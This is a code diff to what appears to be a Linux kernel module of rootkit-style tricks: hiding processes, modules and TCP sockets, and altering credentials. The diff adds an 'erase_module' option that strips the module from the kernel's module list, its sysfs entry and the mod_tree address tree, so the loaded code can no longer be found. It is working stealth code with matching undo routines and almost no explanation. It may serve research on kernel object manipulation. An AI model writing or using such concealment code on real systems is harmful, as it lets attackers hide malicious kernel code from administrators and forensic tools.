@@ -8,6 +8,7 @@
 #include <linux/module.h>
 #include <linux/pid.h>
 #include <linux/pid_namespace.h>
+#include <linux/rbtree_latch.h>
 #include <linux/rculist.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
@@ -26,6 +27,9 @@ MODULE_PARM_DESC(unlink_pid, "number of a process to take out of the table of pr
 static int hide_module;
 module_param(hide_module, int, 0);
 MODULE_PARM_DESC(hide_module, "1: this module is taken out of the list of modules, 2: out of sysfs (for good), 3: both");
+static int erase_module;
+module_param(erase_module, int, 0);
+MODULE_PARM_DESC(erase_module, "this module is taken out of all by which its code is found: list, sysfs's set, tree of addresses");
 static int hide_socket;
 module_param(hide_socket, int, 0);
 MODULE_PARM_DESC(hide_socket, "port of a listening TCP socket to take out of the hash table");
@@ -122,6 +126,79 @@ static void undo_hide_module(void)
 	mutex_unlock(lock);
 }
 
+/* Of code and of data, as far as the kernel keeps them: what is for initialization alone has gone when this is undone. */
+static void for_each_tree_node(void (*visit)(struct latch_tree_node *node))
+{
+#ifdef mod_mem_type_is_core
+	for_class_mod_mem_type(type, core)
+		if (THIS_MODULE->mem[type].size)
+			visit(&THIS_MODULE->mem[type].mtn.node);
+#else
+	visit(&THIS_MODULE->core_layout.mtn.node);
+#endif
+}
+
+/* The tree is the first member of what the symbol stands for. */
+static struct latch_tree_root *code_tree(void)
+{
+	return kernel_symbol("mod_tree");
+}
+
+static unsigned long code_address(struct latch_tree_node *node)
+{
+#ifdef mod_mem_type_is_core
+	return (unsigned long)container_of(node, struct module_memory, mtn.node)->base;
+#else
+	return (unsigned long)container_of(node, struct module_layout, mtn.node)->base;
+#endif
+}
+
+static bool is_before(struct latch_tree_node *one, struct latch_tree_node *other)
+{
+	return code_address(one) < code_address(other);
+}
+
+static const struct latch_tree_ops by_address = { .less = is_before };
+
+static void erase_from_tree(struct latch_tree_node *node)
+{
+	latch_tree_erase(node, code_tree(), &by_address);
+}
+
+static void insert_into_tree(struct latch_tree_node *node)
+{
+	latch_tree_insert(node, code_tree(), &by_address);
+}
+
+static int do_erase_module(int how)
+{
+	struct kobject *object = &THIS_MODULE->mkobj.kobj;
+	struct mutex *lock = kernel_symbol("module_mutex");
+
+	mutex_lock(lock);
+	list_del_rcu(&THIS_MODULE->list);
+	for_each_tree_node(erase_from_tree);
+	mutex_unlock(lock);
+	spin_lock(&object->kset->list_lock);
+	list_del_init(&object->entry);
+	spin_unlock(&object->kset->list_lock);
+	return 0;
+}
+
+static void undo_erase_module(void)
+{
+	struct kobject *object = &THIS_MODULE->mkobj.kobj;
+	struct mutex *lock = kernel_symbol("module_mutex");
+
+	spin_lock(&object->kset->list_lock);
+	list_add_tail(&object->entry, &object->kset->list);
+	spin_unlock(&object->kset->list_lock);
+	mutex_lock(lock);
+	for_each_tree_node(insert_into_tree);
+	list_add_rcu(&THIS_MODULE->list, kernel_symbol("modules"));
+	mutex_unlock(lock);
+}
+
 static struct sock *unhashed;
 
 static int do_hide_socket(int port)
@@ -206,6 +283,7 @@ struct trick object_tricks[] = {
 	{ "unlink_process", &unlink_process, do_unlink_process, undo_unlink_process },
 	{ "unlink_pid", &unlink_pid, do_unlink_pid, undo_unlink_pid },
 	{ "hide_module", &hide_module, do_hide_module, undo_hide_module },
+	{ "erase_module", &erase_module, do_erase_module, undo_erase_module },
 	{ "hide_socket", &hide_socket, do_hide_socket, undo_hide_socket },
 	{ "change_credentials", &change_credentials, do_change_credentials, undo_change_credentials },
 	{ "share_credentials", &share_credentials, do_share_credentials, undo_share_credentials },
